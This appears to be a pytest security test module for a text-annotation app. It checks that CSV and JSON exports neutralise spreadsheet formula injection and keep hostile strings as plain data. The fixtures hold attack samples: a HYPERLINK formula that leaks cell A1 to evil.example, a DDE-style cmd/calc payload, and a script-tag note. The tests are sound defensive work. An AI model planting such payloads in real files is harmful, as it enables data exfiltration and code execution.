"""Hostile article text and notes leave in every export format as data: CSV cells that a
spreadsheet would run as a formula are neutralised, JSON keeps every string exactly, and
downloads are attachments that browsers may not sniff as HTML."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from typing import Any

import pytest
from sqlalchemy import select

from annotator.models import Passage, Role
from annotator.services import export_formats
from annotator.services.exporting import FORMULA_PREFIXES
from annotator.services.importing import import_files
from tests.security import hostile

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click") (AP)'
FORMULA_TEXT = (
    "@SUM(1+1)*cmd|' /C calc'!A0 said the mayor.\n\n"
    "+1 and -1 were quoted.\n\n"
    "\tTabbed start.\n\n"
    "-2+3 is editorial."
)
NOTE = '=1+1 <script>alert("note")</script>\u202e'


@pytest.fixture
def exported(app, client, session, make_user, login):
    """Both hostile documents imported, every claim tagged by a reviewer with a hostile
    note, then a curator logged in to download."""
    formula = {"id": "formula-1", "title": FORMULA_TITLE, "text": FORMULA_TEXT}
    files = [
        ("hostile.jsonl", hostile.hostile_jsonl()),
        ("formula.jsonl", (json.dumps(formula) + "\n").encode()),
    ]
    report = import_files(session, files, "default")
    assert report.failed == []
    assert len(report.imported) == 2
    make_user("rita")
    login("rita")
    for passage in session.scalars(select(Passage).where(Passage.claim_count > 0)):
        ids = [str(c.id) for c in passage.claims]
        body = {
            "labels": dict.fromkeys(ids, "quoted"),
            "notes": dict.fromkeys(ids, NOTE),
        }
        assert client.post(f"/passages/{passage.id}", json=body).status_code == 200
    make_user("cora", Role.CURATOR)
    login("cora")
    return client


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def parse_json(text: str) -> list[Any]:
    """A JSON document or JSON lines."""
    try:
        return [json.loads(text)]
    except json.JSONDecodeError:
        return [json.loads(line) for line in text.splitlines() if line.strip()]


FORMATS = sorted(export_formats.FORMATS)
WITH_NOTES = ("csv", "jsonl")  # the formats that carry reviewers' notes


def test_every_format_is_covered():
    assert {"csv", "jsonl"} <= set(FORMATS)


def test_every_format_keeps_hostile_text_as_data(exported):
    for fmt in FORMATS:
        check_format(exported, fmt)


def check_format(client, fmt: str) -> None:
    response = client.get(f"/export/download?format={fmt}&all_claims=1")
    assert response.status_code == 200, fmt
    assert response.headers["Content-Disposition"].startswith("attachment"), fmt
    assert response.headers["X-Content-Type-Options"] == "nosniff", fmt
    assert response.mimetype != "text/html", fmt
    text = response.get_data(as_text=True)
    if response.mimetype == "text/csv":
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        unsafe = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
        assert unsafe == [], f"{fmt}: cells a spreadsheet would run as formulas"
        found, note = cells, "'" + NOTE
    else:
        found, note = [s for item in parse_json(text) for s in strings(item)], NOTE
    if fmt in WITH_NOTES:
        assert note in found, f"the note is not kept exactly in the {fmt} export"
    joined = "\n".join(found)
    for fragment in (*hostile.VERBATIM, "@SUM(1+1)", "HYPERLINK"):
        assert fragment in joined, f"{fragment!r} missing from the {fmt} export"


def test_jsonl_export_keeps_titles_and_texts_exactly(exported):
    documents = parse_json(exported.get("/export/annotations.jsonl").get_data(as_text=True))
    titles = {document["title"] for document in documents}
    assert {hostile.TITLE, FORMULA_TITLE} <= titles
    for document in documents:
        for passage in document["passages"]:
            for claim in passage["claims"]:
                assert passage["text"][claim["start"] : claim["end"]] == claim["text"]


def test_csv_neutralises_but_keeps_the_rest_of_the_cell(exported):
    rows = list(csv.DictReader(io.StringIO(exported.get("/export/annotations.csv").text)))
    titles = {row["document_title"] for row in rows}
    assert "'" + FORMULA_TITLE in titles
    assert hostile.TITLE in titles, "a title not starting with a formula sign stays as it is"
    claim_texts = {row["claim_text"] for row in rows}
    assert any(text.startswith("'@SUM(1+1)") for text in claim_texts)


def test_cli_export_is_the_same_data(exported, runner, tmp_path):
    out = tmp_path / "out.csv"
    result = runner.invoke(args=["export", "--format", "csv", str(out)])
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    assert any("<script>" in c for c in cells)
